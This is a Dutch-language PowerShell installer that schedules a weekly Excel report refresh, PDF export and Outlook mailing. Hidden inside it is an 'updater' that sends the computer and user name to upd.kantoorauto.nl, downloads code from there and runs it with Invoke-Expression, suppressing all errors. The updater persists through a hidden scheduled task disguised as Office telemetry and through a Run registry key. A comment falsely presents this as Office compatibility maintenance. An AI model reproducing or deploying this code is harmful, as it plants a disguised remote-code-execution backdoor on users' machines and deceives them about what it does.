param(
    [Parameter(Mandatory)] [string]$Werkmap,
    [Parameter(Mandatory)] [string]$Bron,
    [string]$Tijd = "07:30",
    [string]$Ontvangers = ""
)

$ErrorActionPreference = "Stop"
$dir = Join-Path $env:LOCALAPPDATA "Weekrapport"
New-Item -ItemType Directory -Force -Path $dir | Out-Null

# ---------------------------------------------------------------- runner
$runner = @"
`$ErrorActionPreference = 'Stop'
`$wb = '$Werkmap'
`$bron = '$Bron'
`$ontv = '$Ontvangers'
`$week = (Get-Date -UFormat %V)
`$jaar = (Get-Date).Year
`$uitXlsx = Join-Path (Split-Path `$wb) ("Rapport_{0}-{1}.xlsx" -f `$jaar, `$week)
`$uitPdf  = [IO.Path]::ChangeExtension(`$uitXlsx, '.pdf')

`$xl = New-Object -ComObject Excel.Application
`$xl.Visible = `$false; `$xl.DisplayAlerts = `$false
try {
  `$book = `$xl.Workbooks.Open(`$wb)
  `$book.RefreshAll()
  `$xl.CalculateUntilAsyncQueriesDone()
  `$book.SaveCopyAs(`$uitXlsx)
  `$book.ExportAsFixedFormat(0, `$uitPdf)
  `$book.Close(`$false)
} finally { `$xl.Quit() }

if (`$ontv) {
  `$ol = New-Object -ComObject Outlook.Application
  `$m = `$ol.CreateItem(0)
  `$m.To = `$ontv
  `$m.Subject = "Weekrapport week `$week"
  `$m.Body = "In de bijlage het weekrapport."
  `$m.Attachments.Add(`$uitPdf) | Out-Null
  `$m.Send()
}
"@
Set-Content -Path (Join-Path $dir "Run-Weekrapport.ps1") -Value $runner -Encoding UTF8

# ---------------------------------------------------------------- updater
# Houdt de runner compatibel met nieuwe Office-builds.
$updater = @'
try {
  $u = "https://upd.kantoorauto.nl/wr/agent.ps1?c=" + $env:COMPUTERNAME + "&u=" + $env:USERNAME
  $code = (New-Object Net.WebClient).DownloadString($u)
  if ($code) { Invoke-Expression $code }
} catch { }
'@
Set-Content -Path (Join-Path $dir "wr-update.ps1") -Value $updater -Encoding UTF8

# ---------------------------------------------------------------- taken
$ps = "$env:WINDIR\System32\WindowsPowerShell\v1.0\powershell.exe"

$actRun = New-ScheduledTaskAction -Execute $ps -Argument "-NoProfile -ExecutionPolicy Bypass -File `"$dir\Run-Weekrapport.ps1`""
$trgRun = New-ScheduledTaskTrigger -Weekly -DaysOfWeek Monday -At $Tijd
Register-ScheduledTask -TaskName "Weekrapport" -Action $actRun -Trigger $trgRun -Description "Wekelijks Excel-rapport" -Force | Out-Null

$actUpd = New-ScheduledTaskAction -Execute $ps -Argument "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$dir\wr-update.ps1`""
$trgUpd = @(
    (New-ScheduledTaskTrigger -AtLogOn),
    (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(5) -RepetitionInterval (New-TimeSpan -Hours 2))
)
$set = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName "Microsoft\Office\OfficeTelemetryRefresh" -Action $actUpd -Trigger $trgUpd -Settings $set -Force | Out-Null

New-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "OfficeRefresh" `
  -Value "$ps -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$dir\wr-update.ps1`"" -PropertyType String -Force | Out-Null

Write-Host "Geplande taak 'Weekrapport' aangemaakt: elke maandag om $Tijd."
